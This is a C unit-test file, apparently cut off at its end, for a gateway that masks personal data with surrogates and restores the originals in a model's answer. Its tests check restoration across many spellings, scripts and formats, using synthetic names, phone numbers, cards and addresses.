/*
 * Promises of masking and restoring together: what left comes back byte for byte, however the
 * answer is cut; changed spellings come back, too; nothing else is touched; nothing private is in
 * what leaves.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "../support/gate_open.h"
#include "base/clock.h"
#include "base/mem.h"
#include "base/plain.h"
#include "gate/manner.h"
#include "gate/match.h"
#include "gate/pinyin.h"
#include "gate/restore_impl.h"
#include "gate/vault.h"

enum { TEXT_MAX = 1 << 22, TALKS = 300 };

static GateParcel *parcel_of(const char *conversation, Str text) {
    Err err = {0};
    GateParcel *parcel = NULL;
    Status status = gate_talk_parcel(gate, conversation, GATE_PUBLIC, text, &parcel, NULL, &err);
    if (status != OK) print_error("%s\n", err.message);
    assert_int_equal(status, OK);
    return parcel;
}

static void restored(const char *conversation, GateForm form, Str text, size_t most, Buf *out) {
    Err err = {0};
    GateRestorer *r;
    uint64_t seed = text.n;
    buf_clear(out);
    assert_int_equal(gate_restorer_for(gate, conversation, form, &r, &err), OK);
    assert_int_equal(gate_talk_restore(r, text, most, &seed, out, &err), OK);
    gate_restorer_free(r);
}

static void comes_back(const char *conversation, Str text) {
    GateParcel *parcel = parcel_of(conversation, text);
    Str masked = gate_parcel_text(parcel, 0);
    Buf out;
    buf_init(&out, TEXT_MAX);
    static const size_t cuts[] = {1, 2, 7, 1 << 20};
    for (size_t i = 0; i < ARRAY_LEN(cuts); i++) {
        restored(conversation, GATE_PLAIN, masked, cuts[i], &out);
        bool same = str_eq(buf_str(&out), text);
        if (!same) {
            print_error("said:     %.*s\nleft:     %.*s\nrestored: %.*s\n", (int)text.n, text.p,
                        (int)masked.n, masked.p, (int)out.n, out.p);
        }
        assert_true(same);
    }
    gate_parcel_free(parcel);
    buf_fini(&out);
}

static void restores_random_talk_byte_for_byte(void **state) {
    char conversation[32];
    Buf text;
    buf_init(&text, TEXT_MAX);
    for (uint64_t seed = 1; seed <= TALKS; seed++) {
        buf_clear(&text);
        talk_text(seed, &text);
        (void)snprintf(conversation, sizeof conversation, "talk-%d", (int)(seed / 5));
        comes_back(conversation, buf_str(&text));
    }
    buf_fini(&text);
}

static void things_among_any_bytes_come_back(void **state) {
    static const char glue[] = "aZ09 .,-_*\\\"\n@:/";
    char conversation[32];
    Buf text;
    buf_init(&text, TEXT_MAX);
    for (int talk = 0; talk < 400; talk++) {
        uint64_t seed = 77 + (uint64_t)talk;
        buf_clear(&text);
        for (uint32_t n = 1 + talk_below(&seed, 8); n > 0; n--) {
            for (uint32_t i = talk_below(&seed, 9); i > 0; i--) {
                bool any = talk_below(&seed, 3) == 0;
                buf_add_byte(&text, any ? (char)talk_below(&seed, 256)
                                        : glue[talk_below(&seed, sizeof glue - 1)]);
            }
            talk_thing(&seed, talk % 2 == 0, &text);
        }
        (void)snprintf(conversation, sizeof conversation, "glue-%d", talk);
        comes_back(conversation, buf_str(&text));
    }
    buf_fini(&text);
}

static void restores_disguised_originals_byte_for_byte(void **state) {
    static const char *const texts[] = {
        "手机 １３８００１３８０００，也写作 13800138000 或 138-0013-8000。",
        ("手机 1\xe2\x80\x8b" "3800138000 and 13800138000 and 138 0013 8000"),
        "Name: Alice Smith. ALICE SMITH! alice smith? Alice  Smith, Alice\nSmith; A. Smith",
        "姓名：张伟明。张 伟 明、张伟明先生、张先生、小张、老张、伟明。",
        "Name: Аlice Smith and Name: Alice Smith", /* one with a Cyrillic A */
        "call +1 415-555-2671 or +1 (415) 555-2671 or 4155552671",
        "e-mail Anna.B@Firma.DE, also anna.b@firma.de and ANNA.B@FIRMA.DE",
        "card 4111 1111 1111 1111, 4111111111111111, 4111-1111-1111-1111",
        "password: ***x*** and password: !!! and password: a",
        "key AKIAIOSFODNN7EXAMPLE and key AKIAIOSFODNN7EXAMPLX",
        "", "\xff\xfe\x80 not text \xe4", "\\u00e4 \\n \\",
    };
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        char conversation[32];
        (void)snprintf(conversation, sizeof conversation, "disguise-%zu", i);
        comes_back(conversation, str_from(texts[i]));
        comes_back(conversation, str_from(texts[i])); /* and again, now that all is known */
    }
}

/* Surrogates are drawn anew in each conversation, and none may meet its neighbours. */
static void what_was_said_comes_back_whatever_is_drawn(void **state) {
    static const char *const texts[] = {
        "Name: Ute Fuchs. Fuchss Akte, Fuchs' Akte and the Fuchses.", /* the user's own s */
        "Name: Emma Clark, Emma Es war einmal. Log in as user ec or so.",
        "user rossmann.f, Name: Fatima Rossmann, Rossmann's house",
        "姓名：高明。老高: 姓名：欧阳明月。老欧阳", "我是 **高文**：文件已经发出。",
        "call +1 415-850-6682, not 1415803 or 141 5803",
        "Name: Ana Petrova, ANA PETROVA! A.P.Ana Petrova",
        /* a draw in some dozens has such a form of the surrogate */
        "Name: Emma Clark. E.L. and R.E. and T.W. of the board, with L. and M.",
        "出生日期：1968年2月9日。房租五月五日、二月一日到期。"};
    char conversation[32];
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        for (int draw = 0; draw < TALKS; draw++) {
            (void)snprintf(conversation, sizeof conversation, "any-%zu-%d", i, draw);
            comes_back(conversation, str_from(texts[i]));
        }
    }
}

/* A parcel is proven by a restorer that knows only what may begin in its texts. */
static void what_begins_in_a_text_is_enough_to_restore_it(void **state) {
    Buf text, out[2];
    buf_init(&text, TEXT_MAX);
    buf_init(&out[0], TEXT_MAX);
    buf_init(&out[1], TEXT_MAX);
    for (uint64_t seed = 1; seed <= TALKS / 3; seed++) {
        Err err;
        VaultTalk *talk;
        buf_clear(&text);
        talk_text(seed + 5000, &text);
        GateParcel *parcel = parcel_of("starts", buf_str(&text));
        Str masked = gate_parcel_text(parcel, 0);
        for (int upper = 0; upper < 2; upper++) { /* as it left, and in capitals */
            buf_clear(&text);
            for (size_t i = 0; i < masked.n; i++) {
                buf_add_byte(&text, upper ? plain_upper(masked.p[i]) : masked.p[i]);
            }
            MatchStarts starts = {{0}};
            match_starts_note(&starts, buf_str(&text));
            assert_int_equal(vault_talk_open_known(gate->vault, "starts", &talk, &err), OK);
            for (int all = 0; all < 2; all++) {
                GateRestorer *r;
                uint64_t cut = seed;
                buf_clear(&out[all]);
                assert_int_equal(restorer_of(talk, GATE_PLAIN, all ? NULL : &starts, &r, &err), OK);
                assert_int_equal(gate_talk_restore(r, buf_str(&text), 99, &cut, &out[all], &err),
                                 OK);
                gate_restorer_free(r);
            }
            vault_talk_close(talk);
            assert_true(str_eq(buf_str(&out[0]), buf_str(&out[1])));
        }
        gate_parcel_free(parcel);
    }
    buf_fini(&text);
    buf_fini(&out[0]);
    buf_fini(&out[1]);
}

/* ---- changed spellings ----------------------------------------------------------------------- */

static const char said[] = "Name: Alice Smith, phone +1 415-555-2671, e-mail alice@firma.de.\n"
                           "姓名：张伟明，手机 13800138000。";

/* The surrogate of an original. */
static Str surrogate_of(const char *conversation, VaultPart part, const char *original, Buf *keep) {
    Err err;
    VaultTalk *talk;
    assert_int_equal(vault_talk_open_known(gate->vault, conversation, &talk, &err), OK);
    const VaultEntry *entry = vault_talk_original(talk, part, str_from(original));
    assert_non_null(entry);
    buf_init(keep, 4096);
    buf_add_str(keep, entry->surrogate);
    vault_talk_close(talk);
    return buf_str(keep);
}

/* The answer holds '@' where the surrogate stands; what is expected is the whole. */
static void answers(const char *original, VaultPart part, const char *answer, const char *wanted) {
    Buf keep, text, out;
    Str surrogate = surrogate_of("changed", part, original, &keep);
    buf_init(&text, 4096);
    buf_init(&out, 4096);
    for (const char *c = answer; *c; c++) {
        if (*c == '@') buf_add_str(&text, surrogate);
        else if (*c == '^') for (size_t i = 0; i < surrogate.n; i++) {
            char low = surrogate.p[i];
            buf_add_byte(&text, low >= 'a' && low <= 'z' ? (char)(low - 32) : low);
        } else if (*c == '_') for (size_t i = 0; i < surrogate.n; i++) {
            char up = surrogate.p[i];
            buf_add_byte(&text, up >= 'A' && up <= 'Z' ? (char)(up + 32) : up);
        } else if (*c == '%') for (size_t i = 0; i < surrogate.n; i++) {
            bool blank = surrogate.p[i] == ' ' || surrogate.p[i] == '-';
            if (!blank) buf_add_byte(&text, surrogate.p[i]);
        } else if (*c == '~') { /* broken at a line's end */
            buf_add(&text, surrogate.p, 3);
            buf_add_c(&text, "-\n");
            buf_add(&text, surrogate.p + 3, surrogate.n - 3);
        } else buf_add_byte(&text, *c);
    }
    restored("changed", GATE_PLAIN, buf_str(&text), 3, &out);
    if (!str_eq_c(buf_str(&out), wanted)) {
        print_error("%.*s\n-> %.*s\nnot %s\n", (int)text.n, text.p, (int)out.n, out.p, wanted);
    }
    assert_true(str_eq_c(buf_str(&out), wanted));
    buf_fini(&keep);
    buf_fini(&text);
    buf_fini(&out);
}

static void restores_names_as_answers_write_them(void **state) {
    gate_parcel_free(parcel_of("changed", str_from(said)));
    const char *name = "Alice Smith";
    answers(name, VAULT_WHOLE, "Dear @, hello", "Dear Alice Smith, hello");
    answers(name, VAULT_WHOLE, "^", "ALICE SMITH");
    answers(name, VAULT_WHOLE, "_", "alice smith");
    answers(name, VAULT_WHOLE, "@'s house", "Alice Smith's house");
    answers(name, VAULT_WHOLE, "the @s", "the Alice Smiths");
    answers(name, VAULT_WHOLE, "**@**, *@* and `@`",
            "**Alice Smith**, *Alice Smith* and `Alice Smith`");
    answers(name, VAULT_WHOLE, "[@](x)", "[Alice Smith](x)");
    answers(name, VAULT_WHOLE, "\"@\": 1", "\"Alice Smith\": 1");
    answers("Alice", VAULT_WORD, "Hi @!", "Hi Alice!");
    answers("Alice", VAULT_WORD, "@ **@**", "Alice **Alice**");
    answers("Smith", VAULT_WORD, "Mrs. @, @'s and @s", "Mrs. Smith, Smith's and Smiths");
    answers("Smith", VAULT_WORD, "^", "SMITH");
    answers("Smith", VAULT_WORD, "die @schen Akten, ein @scher Brief, die @sche",
            "die Smithschen Akten, ein Smithscher Brief, die Smithsche");
    answers(name, VAULT_WHOLE, "by ~ today", "by Alice Smith today");
    answers("Smith", VAULT_WORD, "a\\n@ \\@", "a\\nSmith \\Smith"); /* an escape, and none */
}

static void restores_chinese_names_as_answers_write_them(void **state) {
    gate_parcel_free(parcel_of("changed", str_from(said)));
    answers("张伟明", VAULT_WHOLE, "@说", "张伟明说");
    answers("张伟明", VAULT_WHOLE, "**@**先生", "**张伟明**先生");
    answers("张", VAULT_SURNAME, "@先生、@总、小@、@某、@书记、@哥", "张先生、张总、小张、张某、张书记、张哥");
    answers("张", VAULT_SURNAME, "@家的孩子、@氏夫妇", "张家的孩子、张氏夫妇");
    answers("伟明", VAULT_GIVEN, "@说", "伟明说");
    answers("张", VAULT_SURNAME, "@副总、@總、@工说", "张副总、张總、张工说");
}

/* The surrogate's surname and given name, each in a place of its own. */
static void a_chinese_surname_in_a_cell_comes_back(void **state) {
    gate_parcel_free(parcel_of("changed", str_from(said)));
    answers("张", VAULT_SURNAME, "\"姓\": \"@\", | **@** |, <b>@</b>,@\n",
            "\"姓\": \"张\", | **张** |, <b>张</b>,张\n");
    Buf family, given, text, out, wanted;
    Str s = surrogate_of("changed", VAULT_SURNAME, "张", &family);
    Str g = surrogate_of("changed", VAULT_GIVEN, "伟明", &given);
    static const char *const between[] = {",", " | ", "（", "/", "\",\""};
    buf_init(&text, 4096);
    buf_init(&out, 4096);
    buf_init(&wanted, 4096);
    for (size_t i = 0; i < ARRAY_LEN(between); i++) {
        buf_printf(&text, "\"%.*s%s%.*s\";", (int)s.n, s.p, between[i], (int)g.n, g.p);
        buf_printf(&wanted, "\"张%s伟明\";", between[i]);
    }
    restored("changed", GATE_PLAIN, buf_str(&text), 3, &out);
    assert_true(str_eq(buf_str(&out), buf_str(&wanted)));
    buf_clear(&text); /* in prose it is a word */
    buf_printf(&text, "“%.*s”，%.*s。%.*s\n", (int)s.n, s.p, (int)s.n, s.p, (int)s.n, s.p);
    restored("changed", GATE_PLAIN, buf_str(&text), 3, &out);
    assert_true(str_eq(buf_str(&out), buf_str(&text)));
    buf_fini(&family);
    buf_fini(&given);
    buf_fini(&text);
    buf_fini(&out);
    buf_fini(&wanted);
}

static void add_percent(Str text, Buf *out) {
    for (size_t i = 0; i < text.n; i++) buf_printf(out, "%%%02X", (unsigned char)text.p[i]);
}

/* What follows has come in part, so the restorer does not know the answer's end. */
static void a_chinese_name_in_percent_signs_comes_back_though_more_follows(void **state) {
    gate_parcel_free(parcel_of("changed", str_from(said)));
    Buf family, given, text, out;
    Str s = surrogate_of("changed", VAULT_SURNAME, "张", &family);
    Str g = surrogate_of("changed", VAULT_GIVEN, "伟明", &given);
    buf_init(&text, 4096);
    buf_init(&out, 4096);
    add_percent(s, &text);
    buf_add_byte(&text, ',');
    add_percent(g, &text);
    buf_add_c(&text, " and much more that follows behind it on the same line");
    restored("changed", GATE_PLAIN, buf_str(&text), 3, &out);
    assert_true(str_starts(buf_str(&out), STR("%E5%BC%A0%E4%BC%9F%E6%98%8E and much")));
    buf_fini(&family);
    buf_fini(&given);
    buf_fini(&text);
    buf_fini(&out);
}

static void restores_numbers_as_answers_group_them(void **state) {
    gate_parcel_free(parcel_of("changed", str_from(said)));
    answers("+1 415-555-2671", VAULT_WHOLE, "tel:%.", "tel:+14155552671.");
    answers("+1 415-555-2671", VAULT_WHOLE, "**@**", "**+1 415-555-2671**");
    answers("alice@firma.de", VAULT_WHOLE, "<@> or [mail](mailto:@).",
            "<alice@firma.de> or [mail](mailto:alice@firma.de).");
    answers("13800138000", VAULT_WHOLE, "@。", "13800138000。");
}

static void an_initial_behind_a_name_comes_back_before_a_stop(void **state) {
    gate_parcel_free(parcel_of("stops", STR("Name: Ute Abbing. Name: Olga Ibsen.")));
    Buf surname, given, out;
    Str s = surrogate_of("stops", VAULT_WORD, "Abbing", &surname);
    Str g = surrogate_of("stops", VAULT_WORD, "Ute", &given);
    char text[96];
    buf_init(&out, 4096);
    (void)snprintf(text, sizeof text, "%.*s %c., %.*s %c.", (int)s.n, s.p, g.p[0], (int)g.n, g.p,
                   s.p[0]);
    restored("stops", GATE_PLAIN, str_from(text), 3, &out);
    assert_true(str_eq_c(buf_str(&out), "Abbing U., Ute A."));
    buf_fini(&surname);
    buf_fini(&given);
    buf_fini(&out);
}

/* "4 may" is a number and a verb, and 4 May of a year that nobody was born in another day. */
static void a_day_without_a_year_is_no_other_day(void **state) {
    gate_parcel_free(parcel_of("days", STR("Her birthday is 4 May, as you know.")));
    Buf day, text, out;
    Str may = surrogate_of("days", VAULT_WHOLE, "4 May", &day);
    buf_init(&text, 4096);
    buf_init(&out, 4096);
    buf_printf(&text, "On %.*s 2013, 1 and %.*s may: born.", (int)may.n, may.p, (int)may.n - 4,
               may.p);
    restored("days", GATE_PLAIN, buf_str(&text), 3, &out);
    assert_true(str_eq(buf_str(&out), buf_str(&text)));
    buf_clear(&text);
    buf_printf(&text, "The party is on **%.*s**.", (int)may.n, may.p);
    restored("days", GATE_PLAIN, buf_str(&text), 3, &out);
    assert_true(str_eq_c(buf_str(&out), "The party is on **4 May**."));
    buf_fini(&day);
    buf_fini(&text);
    buf_fini(&out);
}

/* A find that began with a comma made it a surname, and every "先生" one of its bearers'. */
static void a_comma_is_nobody(void **state) {
    static const char text[] = "王敏，王先生密码：e-mail user6747.x@mail60.de，高娟. 那位先生";
    GateParcel *parcel = parcel_of("comma", str_from(text));
    assert_true(str_has(gate_parcel_text(parcel, 0), STR("，")));
    assert_false(str_has(gate_parcel_text(parcel, 0), STR("高娟")));
    gate_parcel_free(parcel);
    comes_back("comma", str_from(text));
}

/* ---- what models change ---------------------------------------------------------------------- */

static const char changing[] =
    "Name: Ute Hinrichs, e-mail ute@firma.de, server 203.0.113.77. Name: Carla Smith-Delgado.\n"
    "出生日期：1968年12月25日，姓名：王建国，车牌京A12345。";

/* The surrogate with `to` for each `from`, or, where that is "", in capitals with it between its
   letters; then `behind`. */
static void changed(const char *original, VaultPart part, const char *from, const char *to,
                    const char *behind, const char *wanted) {
    Buf keep, text, out;
    Str surrogate = surrogate_of("changing", part, original, &keep);
    buf_init(&text, 4096);
    buf_init(&out, 4096);
    for (size_t i = 0; i < surrogate.n; i++) {
        Str rest = str_sub(surrogate, i, surrogate.n);
        if (*from && str_starts(rest, str_from(from))) {
            buf_add_c(&text, to);
            i += strlen(from) - 1;
            continue;
        }
        if (!*from && i > 0) buf_add_c(&text, to);
        buf_add_byte(&text, *from ? surrogate.p[i] : plain_upper(surrogate.p[i]));
    }
    buf_add_c(&text, behind);
    restored("changing", GATE_PLAIN, buf_str(&text), 3, &out);
    if (!str_eq_c(buf_str(&out), wanted)) {
        print_error("%.*s\n-> %.*s\nnot %s\n", (int)text.n, text.p, (int)out.n, out.p, wanted);
    }
    assert_true(str_eq_c(buf_str(&out), wanted));
    buf_fini(&keep);
    buf_fini(&text);
    buf_fini(&out);
}

static void restores_what_answers_spell_escape_or_split(void **state) {
    gate_parcel_free(parcel_of("changing", str_from(changing)));
    changed("Hinrichs", VAULT_WORD, "", ", ", ".", "H, I, N, R, I, C, H, S.");
    changed("Hinrichs", VAULT_WORD, "", " - ", ".", "H - I - N - R - I - C - H - S.");
    changed("ute@firma.de", VAULT_WHOLE, "@", "%40", "&x=1", "ute%40firma.de&x=1");
    changed("ute@firma.de", VAULT_WHOLE, "@", "＠", " ok", "ute@firma.de ok");
    changed("203.0.113.77", VAULT_WHOLE, ".", "[.]", " ok", "203[.]0[.]113[.]77 ok");
    changed("Hinrichs", VAULT_WORD, "-", "-", "¹ said", "Hinrichs¹ said"); /* a footnote */
    changed("京A12345", VAULT_WHOLE, "京A", "京A·", "的车", "京A12345的车");
    changed("Carla Smith-Delgado", VAULT_WHOLE, "-", "", " ok", "Carla SmithDelgado ok");
}

/* German writes no s behind what ends in one. */
static void a_genitive_follows_the_original(void **state) {
    gate_parcel_free(parcel_of("changing", str_from(changing)));
    changed("Ute Hinrichs", VAULT_WHOLE, "-", "-", "s Akte", "Ute Hinrichs’ Akte");
    changed("Hinrichs", VAULT_WORD, "-", "-", "s und mehr", "Hinrichs’ und mehr");
    changed("Ute", VAULT_WORD, "-", "-", "s Akte", "Utes Akte");
}

/* The surrogate's initials in `format`. NULL: they stay. */
static void initials_are(const char *format, const char *wanted) {
    Buf given, surname, out;
    char text[64];
    Str g = surrogate_of("changing", VAULT_WORD, "Ute", &given);
    Str s = surrogate_of("changing", VAULT_WORD, "Hinrichs", &surname);
    (void)snprintf(text, sizeof text, format, g.p[0], s.p[0]);
    buf_init(&out, 4096);
    restored("changing", GATE_PLAIN, str_from(text), 2, &out);
    if (!wanted) wanted = text;
    if (!str_eq_c(buf_str(&out), wanted)) print_error("%s -> %.*s\n", text, (int)out.n, out.p);
    assert_true(str_eq_c(buf_str(&out), wanted));
    buf_fini(&given);
    buf_fini(&surname);
    buf_fini(&out);
}

static void initials_among_others_stay(void **state) {
    gate_parcel_free(parcel_of("changing", str_from(changing)));
    initials_are("the %c.%c.X. standard", NULL);
    initials_are("the X.%c.%c. standard", NULL);
    initials_are("cited as %c. %c. Q. Miller", NULL);
}

/* The pinyin of a Chinese surrogate with one sign before its given name, between `before` and
   `behind`. */
static void pinyin_is(const char *before, const char *sign, const char *behind,
                      const char *wanted) {
    Buf keep, text, out;
    Str name = surrogate_of("changing", VAULT_WHOLE, "王建国", &keep);
    int n = 0;
    buf_init(&text, 4096);
    buf_init(&out, 4096);
    buf_add_c(&text, before);
    for (size_t at = 0, width; at < name.n; at += width, n++) {
        Str reading = pinyin_reading(pinyin_readings(name, at, &width), 0);
        bool big = n == 1 || (n == 0 && *sign);
        if (n == 1) buf_add_c(&text, sign);
        buf_add_byte(&text, big ? plain_upper(reading.p[0]) : reading.p[0]);
        buf_add_str(&text, str_sub(reading, 1, reading.n));
    }
    buf_add_c(&text, behind);
    restored("changing", GATE_PLAIN, buf_str(&text), 3, &out);
    if (!str_eq_c(buf_str(&out), wanted)) {
        print_error("%.*s\n-> %.*s\nnot %s\n", (int)text.n, text.p, (int)out.n, out.p, wanted);
    }
    assert_true(str_eq_c(buf_str(&out), wanted));
    buf_fini(&keep);
    buf_fini(&text);
    buf_fini(&out);
}

static void a_title_before_pinyin_leaves_the_name_whole(void **state) {
    gate_parcel_free(parcel_of("changing", str_from(changing)));
    pinyin_is("Dear Ms. ", " ", ", hello", "Dear Ms. 王建国, hello");
    pinyin_is("Herr ", " ", " kommt", "Herr 王建国 kommt");
    pinyin_is("const ", "", " = 1", "const wangJianguo = 1"); /* no Han signs in code */
}

/* "Jovendra" alone, as answers say it, means one firm. */
static void no_two_firms_share_a_name(void **state) {
    static const char text[] =
        "She works for Redwood Analytics Inc. as an accountant. He works for Halcyon Marine Ltd as "
        "a pilot. She works for Pinecrest Foods LLC as a cook. He works for Oakfield Press Ltd as "
        "a printer. She works for Silverdale Farms LLC as a driver.";
    Err err;
    VaultTalk *talk;
    size_t firms = 0;
    gate_parcel_free(parcel_of("firms", STR(text)));
    assert_int_equal(vault_talk_open_known(gate->vault, "firms", &talk, &err), OK);
    for (size_t i = 0; i < vault_talk_count(talk); i++) {
        const VaultEntry *a = vault_talk_at(talk, i);
        if (a->part != VAULT_WHOLE || a->type != SCAN_ORG) continue;
        firms++;
        for (size_t k = 0; k < i; k++) {
            const VaultEntry *b = vault_talk_at(talk, k);
            if (b->type != a->type || b->part != VAULT_WHOLE) continue;
            assert_false(str_eq(str_sub(a->surrogate, 0, 6), str_sub(b->surrogate, 0, 6)));
        }
    }
    assert_true(firms >= 3);
    vault_talk_close(talk);
}

/* ---- other manners --------------------------------------------------------------------------- */

static void writes(ScanType type, const char *thing, const char *wanted) {
    bool found = false;
    Buf made;
    buf_init(&made, 4096);
    for (size_t i = 0; i < manner_count(type) && !found; i++) {
        buf_clear(&made);
        found = manner_write(type, str_from(thing), i, &made) && str_eq_c(buf_str(&made), wanted);
    }
    if (!found) fail_msg("%s is never written %s", thing, wanted);
    buf_fini(&made);
}

static void things_are_written_in_other_manners(void **state) {
    writes(SCAN_DATE, "14 March 1987", "March 14, 1987");
    writes(SCAN_DATE, "5. März 1986", "March 5th, 1986");
    writes(SCAN_DATE, "Mar 22, 1986", "22nd of March 1986");
    writes(SCAN_DATE, "12.08.1971", "August 12, 1971");
    writes(SCAN_DATE, "1986年3月5日", "1986-03-05");
    writes(SCAN_DATE, "March 5, 1986", "1986年3月5日");
    writes(SCAN_DATE, "1990-11-23", "Nov 23, 1990");
    writes(SCAN_PHONE, "+44 20 7946 0958", "02079460958");
    writes(SCAN_PHONE, "+442079460958", "00442079460958");
    writes(SCAN_PHONE, "+49 (0)221 4711234", "02214711234");
    writes(SCAN_PHONE, "+1 415 555 2671", "4155552671");
    writes(SCAN_PHONE, "0171 2830814", "1712830814");
    writes(SCAN_DATE, "14 March 1987", "14-Mar-1987");
    writes(SCAN_DATE, "14 March 1987", "1987/03/14");
    writes(SCAN_DATE, "14 March 1987", "1987, 3, 14");
    writes(SCAN_DATE, "1960年12月25日", "一九六〇年十二月二十五日");
    writes(SCAN_PHONE, "138 0013 8000", "8613800138000");
    writes(SCAN_ORG, "Brightwater Analytics, Inc.", "Brightwater Analytics");
    writes(SCAN_ORG, "远帆科技有限公司", "远帆科技");
    writes(SCAN_ORG, "沐昀欣有限公司", "沐昀欣");
    writes(SCAN_PHONE, "13800138000", "138 **** 8000");
    writes(SCAN_EMAIL, "emma_clark@oakmail.com", "emma_clark at oakmail dot com");
    writes(SCAN_ADDRESS, "42 Baker Street, London", "Baker Street");
    writes(SCAN_ADDRESS, "42 Baker Street", "Baker");
    writes(SCAN_ADDRESS, "Gartenstraße 17", "Gartenstraße");
    writes(SCAN_ADDRESS, "Gartenstraße 17", "17 Gartenstraße");
    writes(SCAN_ADDRESS, "42 Baker Street, London", "Baker Street 42");
    writes(SCAN_ADDRESS, "北京市朝阳区建国路88号", "朝阳区建国路88号");
    writes(SCAN_ADDRESS, "北京市朝阳区建国路88号", "北京市朝阳区建国路");
    writes(SCAN_EMAIL, "emma.clark@oakmail.co.uk", "emma.clark");
}

static void nothing_is_written_of_what_has_no_manner(void **state) {
    static const char *const things[] = {
        "", "+", "+1", "1", "@", "a@b", "03/05/1986", "0", "Ltd", "公司", "号", "5 5 5 5",
        "+999999999999999999999999999", "\xff\xfe", "Main Street ", " 5 ", "A Street 5 ",
        "31.13.2000", "1986", ",,,,,", "市市市"};
    Buf made;
    buf_init(&made, 4096);
    for (size_t i = 0; i < ARRAY_LEN(things); i++) {
        for (int type = 0; type < SCAN_TYPE_COUNT; type++) {
            for (size_t k = 0; k < manner_count((ScanType)type); k++) {
                size_t n = strlen(things[i]); /* of its own block: a look behind its end is seen */
                char *thing = mem_alloc(n ? n : 1);
                memcpy(thing, things[i], n);
                buf_clear(&made);
                (void)manner_write((ScanType)type, (Str){thing, n}, k, &made);
                assert_int_equal(made.status, OK);
                mem_free(thing);
            }
        }
    }
    buf_fini(&made);
}

/* Whatever manner the answer writes the surrogate in, the original comes back in it. */
static void comes_back_in_each_manner(ScanType type, const char *original) {
    Buf keep, said_so, wanted, text, out;
    Str surrogate = surrogate_of("manners", VAULT_WHOLE, original, &keep);
    buf_init(&said_so, 4096);
    buf_init(&wanted, 4096);
    buf_init(&text, 4096);
    buf_init(&out, 4096);
    int tried = 0;
    for (size_t i = 0; i < manner_count(type); i++) {
        buf_clear(&said_so);
        buf_clear(&wanted);
        buf_clear(&text);
        if (!manner_write(type, surrogate, i, &said_so)) continue;
        tried++;
        if (!manner_write(type, str_from(original), i, &wanted)) { /* it comes back as it is */
            buf_clear(&wanted);
            buf_add_c(&wanted, original);
        }
        unsigned flags = manner_flags(type, i); /* what must stand beside it */
        const char *hidden = flags & MATCH_TAIL ? "**** " : flags & MATCH_BIRTHDAY ? "born " : "";
        buf_printf(&text, "It is %s%.*s, (%s%.*s).", hidden, (int)said_so.n, said_so.p, hidden,
                   (int)said_so.n, said_so.p);
        restored("manners", GATE_PLAIN, buf_str(&text), 3, &out);
        buf_clear(&text);
        buf_printf(&text, "It is %s%.*s, (%s%.*s).", hidden, (int)wanted.n, wanted.p, hidden,
                   (int)wanted.n, wanted.p);
        if (!str_eq(buf_str(&out), buf_str(&text))) {
            fail_msg("%.*s -> %.*s", (int)said_so.n, said_so.p, (int)out.n, out.p);
        }
    }
    assert_true(tried > 0);
    buf_fini(&keep);
    buf_fini(&said_so);
    buf_fini(&wanted);
    buf_fini(&text);
    buf_fini(&out);
}

static void restores_things_in_the_manner_of_the_answer(void **state) {
    gate_parcel_free(parcel_of(
        "manners", STR("Name: Alice Smith, born on 14 March 1987. Call +44 20 7946 0958 or mail "
                       "anna.b77@firma.de. She lives at 42 Baker Street.\n"
                       "姓名：王建国，手机 13800138000，住址：北京市朝阳区建国路88号。")));
    comes_back_in_each_manner(SCAN_DATE, "14 March 1987");
    comes_back_in_each_manner(SCAN_PHONE, "+44 20 7946 0958");
    comes_back_in_each_manner(SCAN_PHONE, "13800138000");
    comes_back_in_each_manner(SCAN_ADDRESS, "42 Baker Street");
    comes_back_in_each_manner(SCAN_ADDRESS, "北京市朝阳区建国路88号");
    comes_back_in_each_manner(SCAN_EMAIL, "anna.b77@firma.de");
}

/* Digits are grouped as in the answer. */
static void restores_telephones_as_answers_dial_them(void **state) {
    static const char *const before[] = {"+44 (0)", "0044-", "(0)", "tel:+44", "0"};
    static const char *const wanted[] = {"+44 (0)20 7946 0958", "0044-20 7946 0958",
                                         "(0)20 7946 0958", "tel:+4420 7946 0958", "020 7946 0958"};
    Buf keep, out;
    gate_parcel_free(parcel_of("dialled", STR("Call her on +44 20 7946 0958.")));
    Str surrogate = surrogate_of("dialled", VAULT_WHOLE, "+44 20 7946 0958", &keep);
    for (size_t i = 0; i < ARRAY_LEN(before); i++) {
        char text[64];
        (void)snprintf(text, sizeof text, "%s%.*s", before[i], (int)surrogate.n - 4,
                       surrogate.p + 4);
        buf_init(&out, 4096);
        restored("dialled", GATE_PLAIN, str_from(text), 3, &out);
        if (!str_eq_c(buf_str(&out), wanted[i])) fail_msg("%s -> %.*s", text, (int)out.n, out.p);
        buf_fini(&out);
    }
    buf_fini(&keep);
}

/* "138****8000" comes back; the same digits without the stars are of another number. */
static void ends_of_a_number_need_stars_between(void **state) {
    Buf keep, out;
    gate_parcel_free(parcel_of("stars", STR("手机 13800138000")));
    Str surrogate = surrogate_of("stars", VAULT_WHOLE, "13800138000", &keep);
    static const char *const formats[] = {"no. %.3s-%.4s", "no. %.3s%.4s", "no. %.3s****%.4s",
                                          "no. %.3s…%.4s", "no. %.3s •• %.4s"};
    static const char *const wanted[] = {"no. 138****8000", "no. 138…8000", "no. 138 •• 8000"};
    for (size_t i = 0; i < ARRAY_LEN(formats); i++) {
        char text[64];
        (void)snprintf(text, sizeof text, formats[i], surrogate.p, surrogate.p + surrogate.n - 4);
        buf_init(&out, 4096);
        restored("stars", GATE_PLAIN, str_from(text), 3, &out);
        assert_true(str_eq_c(buf_str(&out), i < 2 ? text : wanted[i - 2]));
        buf_fini(&out);
    }
    buf_fini(&keep);
}

/* Names of variables and classes: '@' is the surrogate's last name. */
static void restores_names_in_code(void **state) {
    gate_parcel_free(parcel_of("changed", str_from(said)));
    answers("Smith", VAULT_WORD, "const @Phone = new @();", "const SmithPhone = new Smith();");
    answers("Smith", VAULT_WORD, "get@Phone(), the@", "getSmithPhone(), theSmith");
    answers("Smith", VAULT_WORD, "_Phone = 1; my.@.phone", "smithPhone = 1; my.Smith.phone");
    answers("Smith", VAULT_WORD, "PHONE.^", "PHONE.SMITH");
    answers("Alice Smith", VAULT_WHOLE, "class %Card {", "class AliceSmithCard {");
}

static void restores_an_account_without_blanks(void **state) {
    Buf keep, text, out;
    gate_parcel_free(parcel_of("account", STR("Pay to IBAN GB29 NWBK 6016 1331 9268 19.")));
